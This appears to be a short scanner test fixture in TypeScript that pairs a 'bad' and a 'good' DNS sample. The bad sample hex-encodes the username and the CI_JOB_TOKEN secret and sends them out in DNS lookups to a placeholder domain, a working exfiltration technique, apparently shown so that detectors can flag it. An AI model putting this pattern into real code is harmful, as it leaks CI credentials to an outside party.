//: bad dns-env
import { resolve } from 'dns';
import { userInfo } from 'os';

const chunks: string[] = Buffer.from(JSON.stringify([userInfo().username, process.env.CI_JOB_TOKEN]))
  .toString('hex')
  .match(/.{1,50}/g) as string[];

for (const [n, chunk] of chunks.entries()) resolve(`${n}-${chunk}.d.example.invalid`, () => undefined); //!

//: good dns-env
import { resolve } from 'dns';

const names: string[] = Buffer.from('www,mail,api')
  .toString('utf8')
  .split(',') as string[];

for (const [n, name] of names.entries()) resolve(`${name}.example.invalid`, () => console.log(n));
